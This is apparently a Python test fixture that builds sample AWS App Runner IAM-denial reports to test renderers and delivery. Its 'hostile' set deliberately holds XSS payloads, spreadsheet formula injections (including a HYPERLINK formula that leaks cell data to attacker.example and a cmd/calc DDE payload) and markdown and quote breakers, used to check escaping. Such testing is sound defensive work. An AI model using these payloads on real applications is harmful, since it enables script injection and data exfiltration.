"""Hand-written reports for the renderers and delivery: every remedy kind, hostile strings, an empty day.

Shaped like ``analysis.report.build_report`` output (the contract plus its extras) with remedies in the shape
``analysis.remedies`` produces (kind, policy, trust_policy, caller_policy, notes, permission_set, role_name,
commands, docs), so the renderers are tested without depending on the remedies' wording.
"""

from __future__ import annotations

import copy
import uuid
from typing import Any

from analysis.identifiers import finding_id

ACCOUNT = "111122223333"
PARTNER = "444455556666"
SERVICE = f"arn:aws:apprunner:us-east-1:{ACCOUNT}:service/web/8fe1e10304f84fd2b0df550fe98a71fa"
TROUBLESHOOT = "https://docs.aws.amazon.com/apprunner/latest/dg/security_iam_troubleshoot.html"
DOCS = {
    "no_permissions": {
        "title": "I am not authorized to perform an action in App Runner",
        "url": f"{TROUBLESHOOT}#security_iam_troubleshoot-no-permissions",
    },
    "delegate": {
        "title": "I'm an administrator and want to allow others to access App Runner",
        "url": f"{TROUBLESHOOT}#security_iam_troubleshoot-admin-delegate",
    },
    "cross_account": {
        "title": "I want to allow people outside of my AWS account to access my App Runner resources",
        "url": f"{TROUBLESHOOT}#security_iam_troubleshoot-cross-account-access",
    },
}

# Strings a CloudTrail record may legally carry (session names, user agents, messages) and that must never
# act as markup, script or spreadsheet formula.
SCRIPT = "<script>document.documentElement.setAttribute('data-pwned','script')</script>"
IMG = "<img src=x onerror=\"document.documentElement.setAttribute('data-pwned','img')\">"
HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click me")'
HOSTILE_SESSIONS = [
    SCRIPT,
    IMG,
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    HYPERLINK,
    "\tTAB",
    "＝1+1",
    "``` closing fence",
    "日本語-セッション-🚀",
    "evil\u202egnp.exe",
]
ACCESS_KEY = "AKIAIOSFODNN7EXAMPLE"


def policy(action: str, resource: str = SERVICE) -> dict[str, Any]:
    sid = "Allow" + "".join(part.title() for part in action.replace(":", " ").split())
    return {
        "Version": "2012-10-17",
        "Statement": [{"Sid": sid, "Effect": "Allow", "Action": action, "Resource": resource}],
    }


def action(
    name: str = "apprunner:DescribeService",
    *,
    count: int = 3,
    reasons: list[str] | None = None,
    resources: list[str] | None = None,
    **extra: Any,
) -> dict[str, Any]:
    value = {
        "action": name,
        "count": count,
        "resources": [SERVICE] if resources is None else resources,
        "reasons": reasons or ["no_identity_allow"],
        "first_seen": "2026-11-28T09:15:00Z",
        "last_seen": "2026-11-28T11:40:00Z",
        "policy_arns": [],
        "event_names": [name.split(":", 1)[1]],
        "resource_origin": ["message"],
        "action_from_message": True,
        "action_in_catalog": True,
        "encoded_messages": 0,
        "truncated_messages": 0,
        "non_iam_failures": [],
        "event_ids": event_ids(name, count),
    }
    value.update(extra)
    return value


def event_ids(name: str, count: int) -> list[str]:
    """CloudTrail eventIDs (UUIDs) for an action's denials, made up and fixed: one per denial, at most 20."""
    return [str(uuid.uuid5(uuid.NAMESPACE_URL, f"{name}/{n}")) for n in range(min(count, 20))]


def finding(
    arn: str | None = f"arn:aws:iam::{ACCOUNT}:user/dev-alice",
    *,
    kind: str | None = "grant",
    type_: str = "IAMUser",
    account: str | None = ACCOUNT,
    target: str | None = ACCOUNT,
    actions: list[dict[str, Any]] | None = None,
    sessions: list[str] | None = None,
    remedy: dict[str, Any] | None = None,
    severity: str = "low",
    **extra: Any,
) -> dict[str, Any]:
    """A finding; ``severity`` is chosen by hand from docs/CONTRACT.md's rule (the default finding, a Read action
    refused for want of a grant in the caller's own account, is ``low``)."""
    actions = actions or [action()]
    denials = sum(a["count"] for a in actions)
    value = {
        "id": finding_id(arn or f"account:{account}", target),
        "principal": {
            "arn": arn,
            "type": type_,
            "account_id": account,
            "sessions": sessions or [],
            "key": arn or f"account:{account}",
            "permission_set": None,
        },
        "target_account_id": target,
        "cross_account": bool(account and target and account != target),
        "denials": denials,
        "first_seen": "2026-11-28T09:15:00Z",
        "last_seen": "2026-11-28T11:40:00Z",
        "regions": ["us-east-1"],
        "user_agents": ["aws-cli/2.17.32 md/command#apprunner.describe-service"],
        "source_ips": ["198.51.100.7"],
        "confidence": "normal" if denials > 2 else "low",
        "actions": actions,
        "severity": severity,
        "hazards": [],
        "remedy": remedy if remedy is not None or kind is None else REMEDIES[kind](arn),
    }
    value.update(extra)
    return value


def hazard(
    name: str = "iam:PutUserPolicy",
    *,
    category: str = "privilege_escalation",
    why: str = "A user who may write an inline policy on itself can grant itself any permission.",
    source: str = "https://rhinosecuritylabs.com/aws/aws-privilege-escalation-methods-mitigation/",
) -> dict[str, Any]:
    """A hazard as a finding carries it (one entry of analysis/data/hazardous_actions.json)."""
    return {"action": name, "category": category, "why": why, "source": source}


def grant_remedy(arn: str | None) -> dict[str, Any]:
    user = (arn or "dev-alice").rsplit("/", 1)[-1]
    return _remedy(
        "grant",
        policy("apprunner:DescribeService"),
        commands=[
            f"aws iam put-user-policy --user-name {user} --policy-name AppRunnerAccessAuditorGrant "
            "--policy-document file://policy.json"
        ],
        docs=[DOCS["no_permissions"], DOCS["delegate"]],
    )


def cross_account_remedy(arn: str | None) -> dict[str, Any]:
    role = f"AppRunnerAccessFrom{PARTNER}"
    role_arn = f"arn:aws:iam::{ACCOUNT}:role/{role}"
    trust = {
        "Version": "2012-10-17",
        "Statement": [
            {
                "Sid": "AllowCallerToAssume",
                "Effect": "Allow",
                "Principal": {"AWS": arn or f"arn:aws:iam::{PARTNER}:root"},
                "Action": "sts:AssumeRole",
                "Condition": {"StringEquals": {"sts:ExternalId": "c97faa8d-85df-511c"}},
            }
        ],
    }
    return _remedy(
        "cross_account_role",
        policy("apprunner:ListServices", "*"),
        trust_policy=trust,
        caller_policy=policy("sts:AssumeRole", role_arn),
        role_name=role,
        notes=[f"Account {PARTNER} is neither trusted nor in the organization: confirm who owns that account."],
        commands=[
            f"# in account {ACCOUNT} (owner of the resources):",
            f"aws iam create-role --role-name {role} --assume-role-policy-document file://trust-policy.json",
            f"aws iam put-role-policy --role-name {role} --policy-name AppRunnerAccess "
            "--policy-document file://policy.json",
            f"# in account {PARTNER} (the caller):",
            f"aws iam put-role-policy --role-name Partner --policy-name Assume{role} "
            "--policy-document file://caller-policy.json",
        ],
        docs=[DOCS["no_permissions"], DOCS["cross_account"]],
    )


def permission_set_remedy(arn: str | None) -> dict[str, Any]:
    return _remedy(
        "permission_set",
        policy("apprunner:CreateService", f"arn:aws:apprunner:us-east-1:{ACCOUNT}:service/web/*"),
        permission_set="Developer_Access",
        commands=[
            "aws sso-admin put-inline-policy-to-permission-set --instance-arn INSTANCE_ARN "
            "--permission-set-arn PERMISSION_SET_ARN --inline-policy file://policy.json"
        ],
        docs=[DOCS["no_permissions"], DOCS["delegate"]],
    )


def review_deny_remedy(arn: str | None) -> dict[str, Any]:
    return _remedy(
        "review_deny",
        None,
        notes=["apprunner:DeleteService: an identity-based policy explicitly denies it. A grant will not help."],
        docs=[DOCS["no_permissions"]],
    )


def org_policy_remedy(arn: str | None) -> dict[str, Any]:
    return _remedy(
        "org_policy",
        None,
        notes=["apprunner:CreateService: a service control policy of the organization refuses it. Do not grant."],
        docs=[DOCS["no_permissions"]],
    )


def investigate_remedy(arn: str | None) -> dict[str, Any]:
    return _remedy(
        "investigate",
        None,
        notes=["12 distinct actions were denied within 10 minutes: this looks like reconnaissance. Do not grant."],
        docs=[DOCS["no_permissions"]],
    )


def _remedy(kind: str, document: dict[str, Any] | None, **extra: Any) -> dict[str, Any]:
    value = {
        "kind": kind,
        "policy": document,
        "trust_policy": None,
        "caller_policy": None,
        "notes": [],
        "permission_set": None,
        "role_name": None,
        "commands": [],
        "docs": [],
    }
    value.update(extra)
    return value


REMEDIES = {
    "grant": grant_remedy,
    "cross_account_role": cross_account_remedy,
    "permission_set": permission_set_remedy,
    "review_deny": review_deny_remedy,
    "org_policy": org_policy_remedy,
    "investigate": investigate_remedy,
}


def report(findings: list[dict[str, Any]] | None = None, **extra: Any) -> dict[str, Any]:
    findings = [] if findings is None else findings
    value = {
        "schema_version": "1",
        "generated_at": "2026-11-29T06:00:00Z",
        "window": {"start": "2026-11-28T00:00:00Z", "end": "2026-11-29T00:00:00Z"},
        "service": "apprunner",
        "sources": [
            {
                "name": "sample",
                "status": "ok",
                "records_read": 1200,
                "malformed_records": 0,
                "error": None,
                "problems": [],
            }
        ],
        "totals": {
            "records_read": 1200,
            "denials": sum(f["denials"] for f in findings),
            "principals": len({f["principal"]["key"] for f in findings}),
            "malformed_records": 0,
            "findings": len(findings),
        },
        "findings": sorted(findings, key=lambda f: -f["denials"]),
    }
    value.update(extra)
    return value


def every_kind() -> dict[str, Any]:
    """One finding per remedy kind, plus one with no remedy yet (remedies not run)."""
    return report(
        [
            finding(kind="grant"),
            finding(
                f"arn:aws:iam::{PARTNER}:role/Partner",
                kind="cross_account_role",
                type_="AssumedRole",
                account=PARTNER,
                actions=[action("apprunner:ListServices", count=5, resources=["*"])],
                severity="critical",  # a caller from an account neither trusted nor in the organization
            ),
            finding(
                f"arn:aws:iam::{ACCOUNT}:role/aws-reserved/sso.amazonaws.com/AWSReservedSSO_Developer_Access_0a1b",
                kind="permission_set",
                type_="AssumedRole",
                sessions=["jane@example.com"],
                actions=[action("apprunner:CreateService", count=2)],
                severity="medium",  # CreateService is a Write action, refused for want of a grant
            ),
            finding(
                f"arn:aws:iam::{ACCOUNT}:role/Ops",
                kind="review_deny",
                type_="AssumedRole",
                actions=[
                    action(
                        "apprunner:DeleteService",
                        count=4,
                        reasons=["explicit_identity_deny"],
                        policy_arns=[f"arn:aws:iam::{ACCOUNT}:policy/DenyDelete"],
                    )
                ],
                severity="high",  # an explicit deny refused DeleteService, a Write action
            ),
            finding(
                f"arn:aws:iam::{ACCOUNT}:role/Builder",
                kind="org_policy",
                type_="AssumedRole",
                actions=[action("apprunner:CreateService", count=6, reasons=["scp"])],
                severity="high",  # a service control policy refused CreateService, a Write action
            ),
            finding(
                f"arn:aws:iam::{ACCOUNT}:user/scanner",
                kind="investigate",
                actions=[
                    action(f"apprunner:{name}", count=1)
                    for name in (
                        "ListServices",
                        "ListConnections",
                        "ListVpcConnectors",
                        "DescribeService",
                        "ListOperations",
                        "ListTagsForResource",
                        "DescribeCustomDomains",
                        "ListAutoScalingConfigurations",
                        "ListObservabilityConfigurations",
                        "ListVpcIngressConnections",
                        "DescribeVpcConnector",
                        "DescribeConnection",
                    )
                ],
                severity="critical",  # reconnaissance
            ),
            finding(
                f"arn:aws:iam::{ACCOUNT}:user/new-hire",
                kind=None,
                remedy=None,
                actions=[action("apprunner:ListOperations", count=1)],
            ),
        ],
        timeline={
            "unit": "hour",
            "buckets": [
                {"start": f"2026-11-28T{hour:02d}:00:00Z", "denials": (hour * 7) % 11 if 8 <= hour <= 18 else 0}
                for hour in range(24)
            ],
        },
    )


def hostile() -> dict[str, Any]:
    """Untrusted strings everywhere a log can put them: sessions, user agents, resources, notes, an access key."""
    bad = finding(
        f"arn:aws:iam::{ACCOUNT}:role/Deploy",
        kind="grant",
        type_="AssumedRole",
        sessions=[*HOSTILE_SESSIONS, f"key-{ACCESS_KEY}"],
        user_agents=[SCRIPT, "x" * 100_000],
        source_ips=[IMG],
        actions=[
            action(
                "apprunner:DescribeService",
                resources=[SERVICE, "=cmd|' /C calc'!A0", SCRIPT, "@SUM(1)"],
                non_iam_failures=[SCRIPT],
            )
        ],
    )
    bad["remedy"]["notes"] = [
        f"note with {SCRIPT} and {IMG} and [link](javascript:alert(1)) and {ACCESS_KEY}",
        "```\nfence breaker\n```",
        "| table | breaker |",
    ]
    bad["remedy"]["docs"] = [
        *bad["remedy"]["docs"],
        {"title": SCRIPT, "url": "javascript:alert(document.domain)"},
        {"title": "quote breaker", "url": 'https://docs.aws.amazon.com/x" onmouseover="alert(1)'},
    ]
    return report(
        [
            bad,
            finding(
                f"arn:aws:iam::{ACCOUNT}:user/{'=1+1'}",
                kind="grant",
                actions=[action("apprunner:ListServices", count=1, resources=["*"])],
            ),
        ]
    )


def empty_day() -> dict[str, Any]:
    return report([])


def copy_of(value: dict[str, Any]) -> dict[str, Any]:
    return copy.deepcopy(value)


def daily_with_late_arrivals() -> dict[str, Any]:
    """A daily report (local day in a time zone) that also counts denials of an earlier day logged late."""
    late = finding(
        f"arn:aws:iam::{ACCOUNT}:role/Nightly",
        kind="grant",
        type_="AssumedRole",
        actions=[action("apprunner:StartDeployment", count=2)],
        severity="medium",  # StartDeployment is a Write action, refused for want of a grant
    )
    value = report(
        [finding()],
        daily={
            "key": "2026-11-28",
            "time_zone": "Europe/Paris",
            "start": "2026-11-27T23:00:00Z",
            "end": "2026-11-28T23:00:00Z",
            "lookback_hours": 48.0,
            "read_window": {"start": "2026-11-25T23:00:00Z", "end": "2026-11-28T23:00:00Z"},
        },
        late_arrivals=[
            {
                "window": {
                    "key": "2026-11-27",
                    "time_zone": "Europe/Paris",
                    "start": "2026-11-26T23:00:00Z",
                    "end": "2026-11-27T23:00:00Z",
                },
                "denials": 2,
                "principals": 1,
                "findings": [late],
            }
        ],
    )
    value["window"] = {"start": "2026-11-27T23:00:00Z", "end": "2026-11-28T23:00:00Z"}
    value["totals"]["late_denials"] = 2
    return value
